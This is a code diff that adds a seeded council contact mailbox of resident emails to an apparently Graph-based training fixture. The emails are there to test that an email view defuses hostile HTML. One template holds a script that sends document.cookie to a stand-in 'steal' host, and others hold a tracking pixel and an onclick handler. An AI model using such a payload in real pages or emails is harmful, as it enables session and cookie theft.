@@ -52,11 +52,46 @@ export interface GraphSeed {
   appointments: GraphBookingAppointment[];
   /** What the training deployment's settings say, derived from the teams above. */
   settings: Microsoft365Settings;
+  /** The council's shared contact mailbox, with the residents' emails waiting in its Inbox. */
+  mailbox: SeedMailbox;
+}
+
+/** A file on a seeded email: bytes as Graph carries them (base64), so the seed stays plain JSON. */
+export interface SeedMailAttachment {
+  name: string;
+  contentType: string;
+  contentBytes: string;
+  /** A picture shown in the body (`<img src="cid:…">`) rather than listed as a file. */
+  isInline: boolean;
+  contentId: string | null;
+}
+
+/** An email a resident (or a stranger) sent to the contact mailbox before the training day. */
+export interface SeedMail {
+  id: string;
+  receivedDateTime: string;
+  from: { name: string; address: string };
+  subject: string;
+  /** Plain HTML as a resident's mail program sends it: remote images, links, even script. */
+  html: string;
+  /** The council service the email is about, keyed as cases name it. */
+  service: string;
+  isRead: boolean;
+  attachments: SeedMailAttachment[];
+}
+
+export interface SeedMailbox {
+  id: string;
+  address: string;
+  displayName: string;
+  /** The seed users with a staffId: only they have Full Access to the mailbox, as Exchange grants it. */
+  memberIds: string[];
+  messages: SeedMail[];
 }
 
 export interface GraphSeedInput {
   staff: readonly StaffUser[];
-  residents: readonly { id: string; name: string; phone: string | null }[];
+  residents: readonly { id: string; name: string; phone: string | null; email?: string | null }[];
   /** The London date the appointments are for. */
   today: string;
   seed?: number;
@@ -216,5 +251,126 @@ export function buildGraphSeed(input: GraphSeedInput): GraphSeed {
     bookingsResidentQuestionId: residentQuestionId,
   };
 
-  return { tenantId: TRAINING_TENANT_ID, today: input.today, users, teams, bookingsBusinessId, residentQuestionId, staffMembers, appointments, settings };
+  const mailbox: SeedMailbox = {
+    id: seededGuid(seed, 'contact-mailbox'),
+    address: CONTACT_MAILBOX,
+    displayName: 'Council contact centre',
+    memberIds: users.filter((user) => user.staffId !== undefined).map((user) => user.id),
+    messages: seedMail(seed, input),
+  };
+
+  return { tenantId: TRAINING_TENANT_ID, today: input.today, users, teams, bookingsBusinessId, residentQuestionId, staffMembers, appointments, settings, mailbox };
+}
+
+export const CONTACT_MAILBOX = 'contact@example.org';
+
+/** A 1×1 PNG and a one-line PDF: real file formats, no real content. */
+const TINY_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const TINY_PDF = Buffer.from(
+  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
+).toString('base64');
+
+const file = (name: string, contentType: string, contentBytes: string): SeedMailAttachment => ({ name, contentType, contentBytes, isInline: false, contentId: null });
+
+/**
+ * What residents write to the contact mailbox about the council's common services. Each is
+ * plain HTML as mail programs send it, and some carry what a safe email view must defuse: a
+ * tracking pixel, a script and an onclick, a link, files and an inline picture.
+ */
+const MAIL_TEMPLATES: readonly { service: string; subject: string; html: (name: string, key: string) => string; attachments?: SeedMailAttachment[]; stranger?: boolean }[] = [
+  {
+    service: 'waste',
+    subject: 'Bin not collected on Tuesday',
+    html: (name) => `<p>Hello,</p><p>Our black bin was out by 7am on Tuesday but it was not emptied. The rest of the street was done. A photo is attached.</p><p>Thanks,<br>${name}</p>`,
+    attachments: [file('bin-photo.png', 'image/png', TINY_PNG)],
+  },
+  {
+    service: 'council-tax',
+    subject: 'Paying council tax in 12 instalments',
+    html: (name) => `<p>Dear Sir or Madam,</p><p>Can I spread this year's council tax over 12 monthly instalments instead of 10? I read about it on <a href="https://www.example.org/council-tax/instalments">your instalments page</a> but could not find the form.</p><p>Kind regards,<br>${name}</p>`,
+  },
+  {
+    service: 'parking',
+    subject: 'Renewing my residents parking permit',
+    html: (name, key) => `<p>Hi,</p><p>My residents parking permit runs out at the end of the month. Do I need to send proof of address again?</p><p>${name}</p><img src="https://tracker.example.net/pixel.gif?id=${key}" width="1" height="1" alt="">`,
+  },
+  {
+    service: 'housing-repairs',
+    subject: 'Water coming through the kitchen ceiling',
+    html: (name) => `<p>Hello,</p><p>Water is dripping through the kitchen ceiling from the flat above, see below.</p><p><img src="cid:ceiling-photo" alt="Kitchen ceiling"></p><p>Please can someone come out.<br>${name}</p>`,
+    attachments: [{ name: 'ceiling.png', contentType: 'image/png', contentBytes: TINY_PNG, isInline: true, contentId: 'ceiling-photo' }],
+  },
+  {
+    service: 'noise-nuisance',
+    subject: 'Loud music every night from the flat above',
+    html: (name) => `<p>To the council,</p><p>For three weeks there has been loud music after midnight from the flat above.</p><script>document.location='https://tracker.example.net/steal?c='+document.cookie</script><p><a href="#" onclick="alert('noise diary')">My noise diary</a></p><p>${name}</p>`,
+  },
+  {
+    service: 'waste',
+    subject: 'Recycling missed again',
+    html: () => '<p>The recycling on our road has been missed two weeks running. Nobody has replied to my last email.</p>',
+    stranger: true,
+  },
+  {
+    service: 'council-tax',
+    subject: 'Council tax bill – wrong band?',
+    html: (name) => `<p>Hello,</p><p>I think my flat is in the wrong band. My bill is attached.</p><p>Regards,<br>${name}</p>`,
+    attachments: [file('council-tax-bill.pdf', 'application/pdf', TINY_PDF)],
+  },
+  {
+    service: 'housing-repairs',
+    subject: 'Boiler not working – no hot water',
+    html: (name) => `<p>Hi,</p><p>Our boiler stopped working yesterday evening and we have no heating or hot water. We have a baby at home.</p><p>${name}</p>`,
+  },
+  {
+    service: 'parking',
+    subject: 'Visitor parking permits',
+    html: (name) => `<p>Good morning,</p><p>How many visitor permits can I buy each year, and can I buy them online?</p><p>Thank you,<br>${name}</p>`,
+  },
+  {
+    service: 'noise-nuisance',
+    subject: 'Dog barking next door all day',
+    html: (name) => `<p>Dear council,</p><p>The dog next door barks from 8am to 6pm while the owners are out. I have spoken to them twice.</p><p>${name}</p>`,
+  },
+  {
+    service: 'council-tax',
+    subject: 'Moving out – final council tax bill',
+    html: (name) => `<p>Hello,</p><p>I am moving out on the 30th. Please send my final bill to my new address.</p><p>Many thanks,<br>${name}</p>`,
+  },
+  {
+    service: 'waste',
+    subject: 'Request for a new garden waste bin',
+    html: (name) => `<p>Hi,</p><p>Our garden waste bin was cracked by the lorry. Can we have a new one?</p><p>${name}</p>`,
+  },
+];
+
+/** Someone who is no resident the council knows: an address only. */
+const STRANGER = { name: 'someone.unknown@example.net', address: 'someone.unknown@example.net' };
+
+/**
+ * About twelve emails received between an hour and nine days before 09:00 London on the
+ * training day, from residents with an email address. Drawn from a stream of their own, so
+ * the rest of the seed is what it was before the mailbox existed.
+ */
+function seedMail(seed: number, input: GraphSeedInput): SeedMail[] {
+  const random = createRandom(deriveSeed(seed, 'graph-mailbox'));
+  const writers = input.residents.filter((resident) => typeof resident.email === 'string' && resident.email.includes('@'));
+  const nine = londonWallTime(input.today, 9).getTime();
+  const messages = MAIL_TEMPLATES.map((template, index): SeedMail => {
+    const resident = writers.length > 0 && !template.stranger ? random.pick(writers) : undefined;
+    const from = resident ? { name: resident.name, address: resident.email ?? '' } : template.stranger ? STRANGER : { name: `Resident ${String(index + 1)}`, address: `resident.${String(index + 1)}@example.net` };
+    const minutesBefore = random.int(60, 9 * 24 * 60);
+    const id = seededGuid(seed, 'mail', index);
+    return {
+      id,
+      receivedDateTime: new Date(nine - minutesBefore * 60_000).toISOString().replace(/\.\d{3}Z$/, 'Z'),
+      from,
+      subject: template.subject,
+      html: `<html><body>${template.html(from.name, id.replace(/-/g, ''))}</body></html>`,
+      service: template.service,
+      isRead: random.chance(0.25),
+      attachments: template.attachments ?? [],
+    };
+  });
+  return messages.sort((a, b) => a.receivedDateTime.localeCompare(b.receivedDateTime));
 }
